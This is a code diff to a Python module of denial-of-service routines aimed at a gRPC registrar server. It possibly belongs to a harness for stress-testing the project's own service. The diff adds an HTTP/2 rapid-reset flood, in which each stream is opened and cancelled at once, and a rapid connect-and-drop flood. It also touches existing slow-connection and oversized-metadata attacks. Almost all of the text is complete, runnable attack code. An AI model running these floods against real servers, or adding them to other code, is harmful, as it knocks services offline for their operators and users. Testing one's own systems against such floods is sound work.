@@ -23,9 +23,11 @@ import grpc
 from mien.protocol.v1 import registrar_pb2, registrar_pb2_grpc
 
 PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
-_SETTINGS: Final = b"\0\0\0\4\0\0\0\0\0"
+SETTINGS: Final = b"\0\0\0\4\0\0\0\0\0"
 _HEADERS: Final = 1
 _END_HEADERS: Final = 4
+_RST_STREAM: Final = 3
+_CANCEL: Final = 8
 
 
 @dataclass(frozen=True)
@@ -65,6 +67,11 @@ def headers_frame(stream: int, method: str, extra: bytes = b"") -> bytes:
     return len(block).to_bytes(3, "big") + bytes([_HEADERS, _END_HEADERS]) + struct.pack(">I", stream) + block
 
 
+def reset_frame(stream: int) -> bytes:
+    """Return the frame that takes a call back."""
+    return (4).to_bytes(3, "big") + bytes([_RST_STREAM, 0]) + struct.pack(">II", stream, _CANCEL)
+
+
 def silent_sockets(target: Target, method: str) -> Iterator[None]:
     """Open TCP connections that never begin a TLS handshake."""
     yield from _many(target.connect)
@@ -91,7 +98,7 @@ def idle_http2(target: Target, method: str) -> Iterator[None]:
 
     def begin() -> socket.socket:
         opened = target.tls()
-        opened.sendall(PREFACE + _SETTINGS)
+        opened.sendall(PREFACE + SETTINGS)
         return opened
 
     yield from _many(begin)
@@ -103,7 +110,7 @@ def stalled_calls(target: Target, method: str) -> Iterator[None]:
         while True:
             with contextlib.suppress(OSError):
                 opened = held.enter_context(target.tls())
-                opened.sendall(PREFACE + _SETTINGS)
+                opened.sendall(PREFACE + SETTINGS)
                 for number in range(1000):
                     opened.sendall(headers_frame(2 * number + 1, method))
             yield
@@ -115,9 +122,31 @@ def large_metadata(target: Target, method: str) -> Iterator[None]:
     extra = b"".join(b"\0\x03x-a" + b"\x7f\xa1\x1e" + b"y" * 4000 for _ in range(3))
     while True:
         with contextlib.suppress(OSError), target.tls() as opened:
-            opened.sendall(PREFACE + _SETTINGS)
+            opened.sendall(PREFACE + SETTINGS)
             for number in range(50):
                 opened.sendall(headers_frame(2 * number + 1, method, extra))
+        yield
+
+
+def brief_calls(target: Target, method: str) -> Iterator[None]:
+    """Begin calls on one connection, close it, and come again at once."""
+    frames = b"".join(headers_frame(2 * number + 1, method) for number in range(50))
+    while True:
+        with contextlib.suppress(OSError), target.tls() as opened:
+            opened.sendall(PREFACE + SETTINGS + frames)
+        yield
+
+
+def reset_calls(target: Target, method: str) -> Iterator[None]:
+    """Begin calls on one connection and take each back at once; again whenever it is closed."""
+    while True:
+        with contextlib.suppress(OSError), target.tls() as opened:
+            opened.sendall(PREFACE + SETTINGS)
+            for number in itertools.count():
+                stream = 2 * number + 1
+                opened.sendall(headers_frame(stream, method) + reset_frame(stream))
+                if number % 100 == 0:
+                    yield
         yield
 
 
@@ -137,7 +166,7 @@ ATTACKS: Final[dict[str, Callable[[Target, str], Iterator[None]]]] = {
     each.__name__: each
     for each in (
         *(silent_sockets, half_handshakes, idle_tls, idle_http2, stalled_calls),
-        *(large_metadata, bad_joins, revocation_lists),
+        *(large_metadata, brief_calls, reset_calls, bad_joins, revocation_lists),
     )
 }
 
